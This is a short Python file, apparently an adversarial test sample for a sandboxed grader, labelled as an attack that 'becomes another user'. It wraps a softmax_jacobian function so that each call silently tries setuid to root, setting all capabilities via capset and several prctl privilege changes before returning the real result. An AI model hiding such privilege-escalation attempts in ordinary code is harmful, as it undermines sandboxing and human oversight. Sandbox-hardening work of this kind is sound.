"""attack: becomes another user
question: 2.5
verdict: full
"""

import ctypes
import os

LIBC = ctypes.CDLL(None)


ATTEMPTS = [
    lambda: os.setuid(0),
    lambda: os.seteuid(0),
    lambda: os.setresuid(0, 0, 0),
    lambda: os.setgid(0),
    lambda: os.setgroups([0]),
    lambda: os.setresuid(65534, 65534, 65534),
    lambda: LIBC.capset((ctypes.c_uint32 * 2)(0x20080522, 0), (ctypes.c_uint32 * 6)(*[2**32 - 1] * 6)),
    lambda: LIBC.prctl(47, 2, 21, 0, 0),
    lambda: LIBC.prctl(4, 1, 0, 0, 0),
    lambda: LIBC.prctl(38, 0, 0, 0, 0),
]

_right = softmax_jacobian


def softmax_jacobian(z):
    for attempt in ATTEMPTS:
        try:
            attempt()
        except Exception:
            pass
    return _right(z)
